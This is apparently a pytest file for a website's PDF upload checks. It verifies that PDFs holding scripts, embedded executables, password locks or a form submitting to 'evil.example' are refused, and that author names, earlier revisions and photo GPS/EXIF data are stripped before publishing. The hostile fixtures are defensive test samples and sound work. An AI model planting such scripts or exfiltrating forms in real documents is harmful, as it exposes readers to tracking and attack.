"""The PDFs the site publishes: what readers could not open, or what a viewer would run, is refused; what names
the people who wrote them is taken off the copy readers get."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from conftest import AUTHOR, authored, revised, with_photo, write_pdf
from hub.content.documents import DocumentError, inspect
from hub.outputs.documents import stripped, without_metadata


def submitting(writer: PdfWriter) -> None:
    """A form field whose button sends the form to another website."""
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")})
    field = DictionaryObject({NameObject("/FT"): NameObject("/Btn"), NameObject("/A"): action})
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})


def a_page_script(writer: PdfWriter) -> None:
    """A script on a page's opening (its additional actions), deep in the page tree rather than in the catalog."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})


@pytest.mark.parametrize(("change", "expected"), [
    (lambda writer: writer.add_open_action(JavaScript("app.alert(1)")), "holds a script"),
    (a_page_script, "holds a script"),
    (lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
    (submitting, "holds a form that sends"),
    (lambda writer: writer.encrypt("secret"), "protected by a password"),
])
def test_an_active_or_locked_pdf_is_refused(tmp_path: Path, change, expected: str) -> None:
    with pytest.raises(DocumentError, match=expected):
        inspect(write_pdf(tmp_path / "report.pdf", change=change))


def test_what_is_no_pdf_or_is_cut_short_is_refused_and_a_real_one_passes(tmp_path: Path) -> None:
    real = write_pdf(tmp_path / "real.pdf", heavy=20_000)
    inspect(real)
    html = tmp_path / "page.pdf"
    html.write_text("<script>alert(1)</script>", encoding="utf-8")
    with pytest.raises(DocumentError, match="is no PDF document"):
        inspect(html)
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(real.read_bytes()[:300])
    with pytest.raises(DocumentError, match="could not be read as a PDF document"):
        inspect(cut)


def test_a_pdf_is_published_without_its_authors_name_its_title_and_its_xmp(tmp_path: Path) -> None:
    """Word writes the computer's user as the author, and the file's name as the title, in the document information
    and again in XMP: readers get the pages only."""
    clean = stripped(write_pdf(tmp_path / "report.pdf", change=authored))
    assert clean is not None and AUTHOR.encode() not in clean and b"Ivanchenko" not in clean
    reader = PdfReader(io.BytesIO(clean))
    assert reader.metadata is None and "/Metadata" not in reader.trailer["/Root"] and len(reader.pages) == 1


def test_a_pdf_saved_again_is_published_without_its_earlier_version(tmp_path: Path) -> None:
    """A name taken off a page and saved (a viewer appends the change) is still in the file, for any tool to read."""
    original = revised(write_pdf(tmp_path / "report.pdf"), "Maria Ivanchenko, 7")
    assert b"Maria Ivanchenko" in original.read_bytes()
    clean = stripped(original)
    assert clean is not None and b"Maria Ivanchenko" not in clean
    reader = PdfReader(io.BytesIO(clean))
    assert len(reader.pages) == 1 and "/Annots" not in reader.pages[0]


def test_a_pdf_naming_only_its_software_is_published_as_it_is(tmp_path: Path) -> None:
    """Written again, a document only grows (pypdf writes no object streams): one naming nobody is left as it is."""
    assert stripped(write_pdf(tmp_path / "plain.pdf")) is None
    dated = write_pdf(tmp_path / "dated.pdf", change=lambda writer: writer.add_metadata(
        {"/Creator": "LibreOffice Writer", "/CreationDate": "D:20261105090000+02'00'", "/Author": " "}))
    assert stripped(dated) is None


GPS = 0x8825


def phone_jpeg(mode: str = "RGB", **save: object) -> bytes:
    """A phone's photo: its GPS position and model in EXIF; red on the left, blue on the right."""
    image = Image.new("RGB", (400, 300), (20, 20, 200))
    image.paste((220, 20, 20), (0, 0, 200, 300))
    exif = Image.Exif()
    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0), 3: "E", 4: (30.0, 31.0, 0.0)}
    exif[0x0110] = "Pixel 8"
    out = io.BytesIO()
    image.convert(mode).save(out, "JPEG", quality=90, exif=exif, comment=b"Ivanchenko family", **save)
    return out.getvalue()


def test_a_photo_inside_a_pdf_is_published_without_its_gps_position(tmp_path: Path) -> None:
    """A scanning app or img2pdf stores the phone's JPEG as it is, EXIF and all: the published PDF draws the same
    picture, from the same compressed bytes, without where and with what it was taken."""
    photo = phone_jpeg()
    original = write_pdf(tmp_path / "visit.pdf", change=with_photo(photo))
    assert b"Pixel 8" in original.read_bytes()
    clean = stripped(original)
    assert clean is not None and b"Pixel 8" not in clean and b"Exif" not in clean and b"Ivanchenko" not in clean
    page = PdfReader(io.BytesIO(clean)).pages[0]
    stored = page["/Resources"]["/XObject"]["/Photo"].get_object().get_data()  # a JPEG's data is its stream's, undecoded
    assert stored == without_metadata(photo) and photo.endswith(stored[-1000:])  # the picture is not encoded again
    (image,) = page.images
    assert image.image.getpixel((50, 150))[0] > 200 and image.image.getpixel((350, 150))[2] > 180


def test_a_photos_colour_profile_and_cmyk_marker_stay_with_it() -> None:
    """Only what was recorded about the photo goes: the segments that say how to draw it stay."""
    for jpeg in (phone_jpeg(icc_profile=b"\0" * 128), phone_jpeg("CMYK")):
        clean = without_metadata(jpeg)
        assert clean is not None and b"Exif" not in clean and b"Ivanchenko" not in clean
        with Image.open(io.BytesIO(jpeg)) as before, Image.open(io.BytesIO(clean)) as after:
            assert after.mode == before.mode and after.info.get("icc_profile") == before.info.get("icc_profile")
            assert after.info.get("adobe") == before.info.get("adobe") and after.tobytes() == before.tobytes()
            assert not after.getexif()
    assert without_metadata(without_metadata(phone_jpeg())) is None and without_metadata(b"no picture") is None
